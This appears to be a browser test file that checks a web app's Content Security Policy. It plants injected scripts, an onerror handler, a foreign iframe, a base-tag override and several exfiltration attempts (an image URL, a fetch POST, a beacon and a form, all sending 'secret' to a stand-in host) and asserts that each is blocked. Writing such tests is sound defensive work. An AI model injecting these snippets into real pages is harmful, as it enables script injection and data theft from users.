import type { Page } from 'playwright-core';
import { expect, inject } from 'vitest';
import { viewIds } from '../../src/url-state/parameters.ts';
import { settle, test } from './app-test.ts';
import { viewLinks } from './view-links.ts';

const plants: Record<string, string> = {
  'a script in the page': `const script = document.createElement('script');
    script.textContent = 'window.ran = 1'; document.body.append(script);`,
  'a handler in markup': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 1">');`,
  'a script from elsewhere': `const script = document.createElement('script');
    script.src = 'https://elsewhere.test/x.js'; document.body.append(script);`,
  'a script from a data address': `const script = document.createElement('script');
    script.src = 'data:text/javascript,window.ran=1'; document.body.append(script);`,
  'a frame': `const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.test/'; document.body.append(frame);`,
  'a picture from elsewhere': `new Image().src = 'https://elsewhere.test/x.png?text=secret';`,
  'a request that leaves': `fetch('https://elsewhere.test/', { method: 'POST', body: 'secret' }).catch(() => 0);`,
  'a beacon': `navigator.sendBeacon('https://elsewhere.test/', 'secret');`,
  'a form': `const form = document.createElement('form');
    form.action = 'https://elsewhere.test/'; document.body.append(form); form.submit();`,
  'a style in markup': `document.body.insertAdjacentHTML('beforeend', '<p style="color: red">');`,
  'another base': `const base = document.createElement('base');
    base.href = 'https://elsewhere.test/'; document.head.append(base);`,
};

test('what is planted in the page is refused', async ({ open }) => {
  const left: string[] = [];
  const page = await open('?view=corpus', {
    expected: /Content Security Policy|violates|ERR_BLOCKED_BY_CSP|request outside the app/,
    prepare: (page) =>
      page.route('https://elsewhere.test/**', async (route) => {
        left.push(route.request().url());
        await route.fulfill({ body: 'window.ran = 1', contentType: 'text/javascript' });
      }),
  });
  for (const [name, code] of Object.entries(plants)) {
    await page.evaluate(() => {
      const refused = new Promise<string>((resolve) => {
        const hear = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', hear, { once: true });
        setTimeout(() => resolve('nothing was refused'), 2_000);
      });
      Reflect.set(window, 'refused', refused);
    });
    // What devtools evaluate is not held to the policy; what it plants is.
    await page.evaluate(`(() => {${code}})()`);
    const refused = await page.evaluate(() => Reflect.get(window, 'refused'));
    expect(refused, name).toMatch(/-src|base-uri|form-action/);
  }
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBe(undefined);
  expect(left).toEqual([]);
});

test('every view asks for the app’s own files only, its worker and its keeper too', async ({ open }) => {
  const asked: string[] = [];
  const page = await open('', {
    serviceWorkers: 'allow',
    prepare: async (page: Page) => {
      page.context().on('request', (request) => asked.push(request.url()));
    },
  });
  await page.evaluate(async () => navigator.serviceWorker.ready);
  for (const view of viewIds) {
    await page.goto(`${inject('appAddress')}${viewLinks[view]}`);
    await settle(page);
  }
  expect(asked.length).toBeGreaterThan(50);
  expect(asked.filter((url) => !url.startsWith(inject('appAddress')) && !url.startsWith('data:'))).toEqual(
    [],
  );
});
